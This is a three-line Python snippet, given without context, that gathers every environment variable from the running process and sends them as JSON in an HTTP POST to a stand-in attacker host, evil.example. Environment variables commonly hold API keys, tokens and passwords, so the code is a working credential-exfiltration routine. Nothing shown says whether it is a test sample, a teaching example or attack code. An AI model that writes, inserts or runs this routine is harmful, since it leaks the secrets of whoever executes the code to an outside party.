import os, json, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://evil.example/e", data=body)
